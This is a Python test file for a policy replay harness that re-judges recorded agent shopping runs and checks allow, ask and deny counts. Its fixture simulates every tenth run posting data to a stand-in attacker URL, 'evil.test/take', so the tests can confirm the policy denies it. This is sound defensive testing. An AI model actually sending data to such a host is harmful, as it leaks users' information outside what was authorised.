"""Judging a folder of runs again."""

import gc
import shutil
from collections import Counter
from pathlib import Path

import pytest
from harness.errors import TraceError
from harness.policy import Policy
from harness.replay.folder import judge, traces_in
from harness.replay.processes import judge_together
from harness.replay.rejudge import UNTOLD
from tests.replay.conftest import policy
from tests.replay.test_rejudge import ASK_PAY, LOOK, PAY, Play, approve, post


async def runs(play: Play, count: int) -> Path:
    """Runs that buy, look, and in every tenth case send something to another host."""
    folder = Path()
    for number in range(count):
        run = play(policy(ASK_PAY), approve)
        run.look("https://shop.test/")
        await run.do(LOOK, PAY, post(1))
        if number % 10 == 0:
            await run.do(post(2, url="https://evil.test/take"))
        folder = run.finish().parent
    return folder


NEW = {"name": "orders", "on": "request", "when": {"method": "POST", "url": "*/orders"}, "verdict": "ask"}


def narrow() -> Policy:
    return policy(NEW, domains={"navigate": ["shop.test"]})


async def test_figures_of_a_folder_are_the_sums_of_its_runs(play: Play) -> None:
    folder = await runs(play, 20)
    found, problems = judge(traces_in(folder), narrow())
    assert problems == ()
    assert (found.traces, found.effects) == (20, 62)
    assert found.table == Counter(
        {("allow", "allow"): 20, ("ask", "allow"): 20, ("allow", "ask"): 20, ("allow", "deny"): 2}
    )
    assert [one.run for one in found.differences if one.now == "deny"] == ["run-0001", "run-0011"]
    assert sum(one.in_vain for one in found.differences) == 20


@pytest.mark.long
async def test_the_figures_hold_on_a_thousand_traces(play: Play, tmp_path: Path) -> None:
    template = await runs(play, 10)
    many = tmp_path / "many"
    originals = traces_in(template)
    for number in range(1000):
        shutil.copytree(originals[number % 10], many / f"copy-{number:04}")
    paths = traces_in(many)
    found, problems = judge_together(paths, narrow(), 2)
    assert problems == ()
    assert (found.traces, found.effects) == (1000, 3100)
    assert found.table == Counter(
        {("allow", "allow"): 1000, ("ask", "allow"): 1000, ("allow", "ask"): 1000, ("allow", "deny"): 100}
    )
    assert sum(one.prevented for one in found.differences) == 1100
    assert sum(one.newly_asked for one in found.differences) == 1000
    assert sum(one.in_vain for one in found.differences) == 1000


async def test_a_broken_run_is_told_and_the_others_are_judged(play: Play) -> None:
    folder = await runs(play, 3)
    events = folder / "run-0002" / "events.jsonl"
    events.write_bytes(events.read_bytes().replace(b"Pay now", b"Pay n0w"))
    found, problems = judge(traces_in(folder), narrow())
    assert found.traces == 2
    assert len(problems) == 1
    assert "run-0002" in problems[0]
    assert gc.isenabled()


async def test_a_run_that_goes_on_with_another_counts_what_that_did(play: Play) -> None:
    second = {"name": "second", "on": "request", "when": {"count": "> 1"}, "verdict": "stop"}
    first = play(policy())
    await first.do(post(1))
    first.finish()
    run = play(policy(), None, "run-0001")
    await run.do(post(1))
    folder = run.finish()
    found, _ = judge((folder,), policy(second))
    assert [(one.run, one.now) for one in found.differences] == [("run-0002", "stop")]
    shutil.rmtree(folder.parent / "run-0001")
    found, _ = judge((folder,), policy(second))
    assert [one.now for one in found.differences] == [UNTOLD]
    assert judge((folder,), policy())[0].differences == []


def test_a_trace_is_its_own_folder_and_an_empty_folder_says_so(tmp_path: Path) -> None:
    example = Path(__file__).resolve().parents[2] / "traces" / "examples" / "buy-a-mug"
    assert traces_in(example) == (example,)
    assert example in traces_in(example.parent)
    with pytest.raises(TraceError, match="is no trace and holds none"):
        traces_in(tmp_path)
